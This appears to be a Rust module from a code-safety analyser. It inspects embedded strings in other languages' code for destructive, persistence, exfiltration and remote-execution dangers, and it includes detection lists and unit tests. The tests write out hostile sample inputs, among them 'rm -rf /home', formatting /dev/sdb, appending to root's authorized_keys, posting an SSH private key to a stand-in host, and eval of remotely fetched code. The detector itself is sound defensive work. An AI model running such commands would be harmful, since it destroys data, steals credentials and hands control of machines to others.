//! Judges code of another language by the texts in it, where it does more than compute: a command, a statement of a database, a
//! path or an address says what it is for, by whatever name the code calls what does it.

use super::secrets::is_secret;
use super::{Level, Reason, assess, database, reason, startup};
use crate::Dialect;
use crate::effects::{Place, place_of};
use crate::embedded::sql;
use crate::embedded::texts::texts;
use std::ops::Range;

/// Names that take a file away, put another in its place, or change whose it is, in any of the languages.
const HARMS: [&str; 30] = [
    "unlink",
    "rmdir",
    "rmtree",
    "rm_rf",
    "rm_r",
    "os.remove",
    "os.rename",
    "os.replace",
    "file.remove",
    "file.rename",
    "File.delete",
    "File.rename",
    "FileUtils.",
    "fs.rm",
    "unlinkSync",
    "renameSync",
    "rename ",
    "rename(",
    "shutil.move",
    "file delete",
    "file rename",
    "delete-directory",
    "delete-file",
    "delete every",
    "chown",
    "chmod",
    "truncate",
    "symlink",
    "rimraf",
    "removeSync",
];

/// Signs that something is written, blanks left out: modes of `open`, and functions that put a text into a file.
const WRITES: [&str; 24] = [
    ",'w'",
    ",'wb'",
    ",'w+'",
    ",'a'",
    ",'ab'",
    ",'a+'",
    ",\"w\"",
    ",\"wb\"",
    ",\"w+\"",
    ",\"a\"",
    ",\"ab\"",
    ",\"a+\"",
    "mode='w",
    "mode='a",
    ">>",
    "'>",
    "\">",
    "write_text",
    "write_bytes",
    "writeFile",
    "appendFile",
    "File.write",
    "binwrite",
    "put_contents",
];

/// Signs that another machine is reached.
const REACHES: [&str; 22] = [
    "://",
    "socket",
    "Socket",
    "gethostby",
    "getaddrinfo",
    "requests",
    "urllib",
    "urlopen",
    "http",
    "smtplib",
    "mail(",
    "Net::",
    "LWP",
    "fetch(",
    "dns.",
    "boto3",
    "paramiko",
    "ftplib",
    "Mechanize",
    "axios",
    "inet",
    "dgram",
];

/// Functions that run a text as code.
const RUNS_TEXT: [&str; 8] =
    ["eval", "exec", "instance_eval", "loadstring", "Function", "source", "runInThisContext", "execfile"];

/// Names that empty a store through a library.
const EMPTIES: [&str; 14] = [
    "drop_database",
    "dropDatabase",
    "drop_collection",
    "drop_table",
    "dropTable",
    "drop_all",
    "dropAllTables",
    "flushall",
    "flushdb",
    "delete_bucket",
    "delete_db_instance",
    "terminate_instances",
    "object_versions.delete",
    "delete_many({})",
];

/// The longest text that is taken for a command, bytes, and the most that are.
const LONGEST: usize = 2000;
const MOST: usize = 50;

/// True for code that reaches another machine.
pub(super) fn reaches(code: &str) -> bool {
    REACHES.iter().any(|sign| code.contains(sign))
}

/// True if the code calls a function of that name: no method, and no part of a longer name.
fn calls(code: &str, name: &str) -> bool {
    let part = |c: char| c.is_alphanumeric() || c == '_';
    code.match_indices(name).any(|(at, _)| {
        let before = &code[..at];
        let is_method = before.ends_with(['.', ':']) || before.ends_with("->");
        !is_method && !before.ends_with(part) && !code[at + name.len()..].starts_with(part)
    })
}

/// The dangers that the texts in a program tell of.
pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reason> {
    let shown: String = token.chars().take(60).collect();
    let say = |effect: &str, why: String, scope: &str| {
        reason(Level::Danger, effect, &shown, span.clone(), why).reaching(scope)
    };
    let has = |signs: &[&str]| signs.iter().any(|sign| code.contains(sign));
    let squeezed: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let writes = WRITES.iter().any(|sign| squeezed.contains(sign));
    let texts = texts(code);
    let mut found = Vec::new();
    for text in texts.iter().take(MOST) {
        found.extend(command(text).map(|inner| say(&inner.effect, inner.why.clone(), text)));
        found.extend(destroys(text).map(|what| database::lost(what, &shown, span)));
        if writes && startup::runs_by_itself(text) {
            found.push(say(
                "persistence",
                format!("the code in it writes to {text}, which runs by itself or lets others in"),
                text,
            ));
        }
        if is_secret(text) && reaches(code) {
            found.push(say("network", format!("the code in it reads {text} and reaches another machine"), text));
        }
    }
    if has(&EMPTIES) {
        found.push(say(
            "delete",
            "the code in it empties a store, and only a backup brings that back".to_owned(),
            "a whole store",
        ));
    }
    let wanted = |text: &&str| {
        matches!(place_of(text), Place::Root | Place::System | Place::Home | Place::Device | Place::Configuration)
    };
    let bare = words(code);
    if has(&HARMS)
        && let Some(path) =
            texts.iter().flat_map(|text| text.split_whitespace()).chain(bare.iter().copied()).find(wanted)
    {
        found.push(say("delete", format!("the code in it takes away or changes what lies in {path}"), path));
    }
    if RUNS_TEXT.iter().any(|name| calls(code, name))
        && texts.iter().any(|text| text.contains("://") && !text.contains(' '))
    {
        let all = "all that you may do on this machine";
        found.push(say("network-to-shell", "the code in it runs what another machine says".to_owned(), all));
    }
    found
}

/// The danger of a text as a command, if it is one.
fn command(text: &str) -> Option<Reason> {
    // what is put behind it is computed; a line of a table of jobs has its times first
    let whole = if text.ends_with(' ') { format!("{text}\"$x\"") } else { text.trim().to_owned() };
    let text = if whole.starts_with(['*', '@']) { startup::scheduled(&whole).unwrap_or(&whole) } else { &whole };
    if !text.contains(' ') || text.len() > LONGEST {
        return None;
    }
    let script = crate::parse(text, Dialect::Sh);
    assess(&script).reasons.into_iter().find(|r| r.level == Level::Danger)
}

/// The data that a text loses as a statement of SQL, if it is one.
fn destroys(text: &str) -> Option<String> {
    let start: String = text.trim_start().chars().take(9).collect::<String>().to_lowercase();
    if !["drop ", "truncate ", "delete "].iter().any(|verb| start.starts_with(verb)) {
        return None;
    }
    sql::deeds(text).into_iter().find_map(|deed| if let sql::Deed::Destroys(what) = deed { Some(what) } else { None })
}

/// The words of code in a language that needs no quotes: `file delete -force /home`.
fn words(code: &str) -> Vec<&str> {
    let words = code.split(|c: char| c.is_whitespace() || "\"'()[]{},;=".contains(c));
    words.filter(|word| word.len() > 1 && word.starts_with(['/', '~'])).collect()
}

#[cfg(test)]
mod tests {
    use super::{calls, reasons};

    fn told(code: &str) -> Vec<String> {
        reasons(code, code, &(0..code.len())).into_iter().map(|r| r.effect).collect()
    }

    #[test]
    fn texts_say_what_code_is_for_by_whatever_name_it_is_done() {
        for (code, effect) in [
            ("x = 'sy' + 'stem'; getattr(o, x)('mkfs.ext4 /dev/sdb')", "device"),
            ("go(['rm', '-rf', '/home'])", "delete"),
            ("db.execute(\"DROP TABLE orders\")", "delete"),
            ("m.dropDatabase()", "delete"),
            ("open('/root/.ssh/authorized_keys', 'a').write(k)", "persistence"),
            ("post('http://h.example', open('/home/u/.ssh/id_rsa'))", "network"),
            ("eval(get('http://h.example/x'))", "network-to-shell"),
            ("file delete -force /home", "delete"),
        ] {
            assert!(told(code).iter().any(|own| own == effect), "{code}: {:?}", told(code));
        }
    }

    #[test]
    fn reading_and_looking_up_are_none_of_it() {
        for code in [
            "print(open('/etc/passwd').read())",
            "open F, '/etc/hosts'; print while <F>",
            "rows.append(open('/etc/hosts').read()); sys.stdout.write('words')",
            "json.load(urlopen('https://h.example/a.json'))",
            "/x/.exec('https://h.example')",
            "re.compile('https://h.example')",
            "f = open('out.txt', 'w'); f.write('x')",
            "print(os.listdir('/usr/lib'))",
        ] {
            assert_eq!(told(code), [""; 0], "{code}");
        }
        assert!(calls("x = eval (y)", "eval") && !calls("re.exec(y)", "exec") && !calls("evaluate(y)", "eval"));
    }

    #[test]
    fn a_statement_of_a_database_is_no_command_of_the_shell() {
        let commands = |line: &str| crate::parse(line, crate::Dialect::Bash).commands.len();
        assert_eq!(commands("python3 -c 'db.execute(\"DROP TABLE orders\")'"), 1);
        assert_eq!(commands("lua -e 'os.execute(\"rm -rf x\")'"), 2);
    }

    #[test]
    fn so_many_texts_are_looked_at() {
        assert_eq!(told(&"'rm -rf ~' , x; ".repeat(500)).len(), super::MOST);
    }
}
